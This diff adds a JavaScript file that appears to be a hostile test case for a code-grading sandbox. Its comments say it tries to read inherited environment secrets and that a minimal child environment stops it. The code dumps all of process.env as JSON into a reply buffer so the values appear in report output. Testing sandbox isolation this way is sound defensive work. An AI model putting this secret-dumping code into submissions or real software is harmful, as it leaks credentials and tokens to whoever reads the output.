@@ -1,0 +1,11 @@
+// tries: to read secrets in the environment that it inherited
+// stopped by: the child is started with an environment of two names
+// exercise: 02-activations/relu
+/** What was found goes out as console text, which reports show. */
+function show(text) {
+  const units = Buffer.from(String(text).slice(0, 2000), "utf16le");
+  const size = Buffer.alloc(4);
+  size.writeUInt32LE(units.length / 2);
+  replies.load = [4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, ...size, ...units];
+}
+show(JSON.stringify(process.env));
